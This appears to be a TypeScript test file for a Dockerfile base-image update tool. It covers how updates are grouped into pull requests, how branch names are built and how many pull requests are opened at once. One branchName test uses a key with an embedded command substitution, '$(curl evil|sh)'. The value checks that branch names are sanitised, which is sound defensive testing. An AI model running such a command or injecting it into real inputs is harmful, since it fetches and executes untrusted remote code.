import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { RepositoryConfig } from "../../../src/core/config/repository-config.ts";
import type { Decision } from "../../../src/core/policy/decision.ts";
import type { Step } from "../../../src/core/tag/step.ts";
import { baseImageLines } from "../../../src/core/dockerfile/base-image-lines.ts";
import { branchName } from "../../../src/core/update/branch-name.ts";
import { limitGroups } from "../../../src/core/update/limit-groups.ts";
import { planUpdates } from "../../../src/core/update/plan-updates.ts";
import { decision, digest, skip } from "./sample-decision.ts";

function taken(at: string, reference: string, step: Step, tag = "99"): Decision {
  return decision(at, reference, { step, to: { tag, digest: digest("a") } });
}

const lines = [
  taken("web/Dockerfile:1", "node:20.11.0", "patch"),
  taken("api/Dockerfile:7", "node:20.11.0", "patch"),
  taken("api/Dockerfile:9", "node:18.1.0", "minor"),
  taken("api/Dockerfile:1", "node:20.11.0", "major"),
  taken("api/Dockerfile:3", "redis:7.2.3", "major"),
  taken("api/Dockerfile:5", `ghcr.io/acme/base:1@${digest("b")}`, "digest"),
  taken("api/Dockerfile:2", "nginx:1.25", "pin"),
  taken("web/Dockerfile:2", "alpine", "pin"),
  decision("web/Dockerfile:3", "alpine:3", { outcome: "skip", reasons: [skip("up-to-date", "…")] }),
];

function plan(group: RepositoryConfig["group"], decisions = lines): Record<string, string[]> {
  const groups = planUpdates(decisions, { group });
  return Object.fromEntries(
    groups.map(({ key, decisions: members }) => [key, members.map(({ file, line }) => `${file}:${line.line}`)]),
  );
}

const majors = {
  "major docker.io/library/node": ["api/Dockerfile:1"],
  "major docker.io/library/redis": ["api/Dockerfile:3"],
};
const pins = { pin: ["api/Dockerfile:2", "web/Dockerfile:2"] };

describe("planUpdates", () => {
  test.for<[RepositoryConfig["group"], Record<string, string[]>]>([
    [
      "image",
      {
        "image docker.io/library/node": ["api/Dockerfile:7", "api/Dockerfile:9", "web/Dockerfile:1"],
        "image ghcr.io/acme/base": ["api/Dockerfile:5"],
        ...pins,
        ...majors,
      },
    ],
    [
      "file",
      {
        "file api/Dockerfile": ["api/Dockerfile:5", "api/Dockerfile:7", "api/Dockerfile:9"],
        "file web/Dockerfile": ["web/Dockerfile:1"],
        ...pins,
        ...majors,
      },
    ],
    [
      "step",
      {
        "step patch": ["api/Dockerfile:7", "web/Dockerfile:1"],
        "step digest": ["api/Dockerfile:5"],
        ...pins,
        "step minor": ["api/Dockerfile:9"],
        ...majors,
      },
    ],
    [
      "all",
      { all: ["api/Dockerfile:5", "api/Dockerfile:7", "api/Dockerfile:9", "web/Dockerfile:1"], ...pins, ...majors },
    ],
  ])("by %s: pins together, majors alone, the most valuable first", ([group, groups]) => {
    expect(plan(group)).toEqual(groups);
    expect(Object.keys(plan(group))).toEqual(Object.keys(groups));
  });

  test("an image on one tag moves together in all files, unless grouped by file", () => {
    for (const group of ["image", "step", "all"] as const) {
      const homes = Object.values(plan(group)).filter((members) => members.includes("web/Dockerfile:1"));
      expect(homes).toHaveLength(1);
      expect(homes[0]).toContain("api/Dockerfile:7");
    }
  });

  test("images that share an ARG go together, also where one of them is a major", () => {
    const text = "ARG V=1.2.3\nARG HUB=docker.io\nFROM $HUB/a:$V\nFROM $HUB/b:$V-slim\nFROM $HUB/c:1\nFROM d:1";
    const [a, b, c, d] = baseImageLines({ path: "Dockerfile", text }).map((line, index): Decision => ({
      ...taken(`Dockerfile:${line.line}`, "x", index === 1 ? "major" : "patch"),
      line,
      to: { tag: ["2.0.0", "2.0.0-slim", "2", "2"][index] ?? null, digest: null },
    }));
    const decisions = [a, b, c, d].flatMap((each) => each ?? []);
    expect(plan("image", decisions)).toEqual({
      "image docker.io/library/a, major docker.io/library/b": ["Dockerfile:3", "Dockerfile:4"],
      "image docker.io/library/c": ["Dockerfile:5"],
      "image docker.io/library/d": ["Dockerfile:6"],
    });
  });

  test("does not depend on the order of the decisions", () => {
    const expected = planUpdates(lines, { group: "image" });
    fc.assert(
      fc.property(fc.shuffledSubarray(lines, { minLength: lines.length }), (shuffled) => {
        expect(planUpdates(shuffled, { group: "image" })).toEqual(expected);
      }),
    );
  });

  test("proposes nothing where nothing is taken", () => {
    expect(planUpdates(lines.slice(-1), { group: "image" })).toEqual([]);
  });
});

describe("branchName", () => {
  test.for([
    ["image docker.io/library/node", /^plinth\/image-node-[0-9a-f]{8}$/],
    ["major docker.io/acme/base", /^plinth\/major-acme-base-[0-9a-f]{8}$/],
    ["image ghcr.io/acme/base", /^plinth\/image-ghcr-io-acme-base-[0-9a-f]{8}$/],
    ["pin", /^plinth\/pin-[0-9a-f]{8}$/],
    ["file $(curl evil|sh)/Dockerfile", /^plinth\/file-curl-evil-sh-dockerfile-[0-9a-f]{8}$/],
  ] as const)("%s has the branch %s", ([key, branch]) => {
    expect(branchName(key)).toMatch(branch);
  });

  test("has a closed alphabet and a bounded length, whatever the key, and tells keys apart", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (key, other) => {
        const branch = branchName(key);
        expect(branch).toMatch(/^plinth\/[a-z0-9]+(?:-[a-z0-9]+)*$/);
        expect(branch.length).toBeLessThanOrEqual(100);
        expect(branch === branchName(other)).toBe(key === other);
      }),
    );
  });
});

describe("limitGroups", () => {
  const groups = planUpdates(lines, { group: "image" });
  const branches = groups.map(({ branch }) => branch);

  test("proposes the most valuable first, and holds the others back with a reason", () => {
    const { proposed, heldBack } = limitGroups(groups, { limit: 2, open: [] });
    expect(proposed.map(({ branch }) => branch)).toEqual(branches.slice(0, 2));
    expect(heldBack.map(({ group, reason }) => [group.branch, reason])).toEqual(
      branches.slice(2).map((branch) => [branch, "open-pull-request-limit"]),
    );
  });

  test("goes on with pull requests that are open, however many", () => {
    const { proposed } = limitGroups(groups, { limit: 1, open: branches.slice(3) });
    expect(proposed.map(({ branch }) => branch)).toEqual(branches.slice(3));
  });

  test("counts open pull requests that no group has any more", () => {
    expect(limitGroups(groups, { limit: 2, open: ["plinth/gone"] }).proposed).toHaveLength(1);
  });

  test("opens nothing at a limit of 0, and drops nothing at any limit", () => {
    expect(limitGroups(groups, { limit: 0, open: [] }).proposed).toEqual([]);
    fc.assert(
      fc.property(fc.nat(9), fc.subarray([...branches, "plinth/gone"]), (limit, open) => {
        const { proposed, heldBack } = limitGroups(groups, { limit, open });
        expect(new Set([...proposed, ...heldBack.map(({ group }) => group)])).toEqual(new Set(groups));
      }),
    );
  });
});
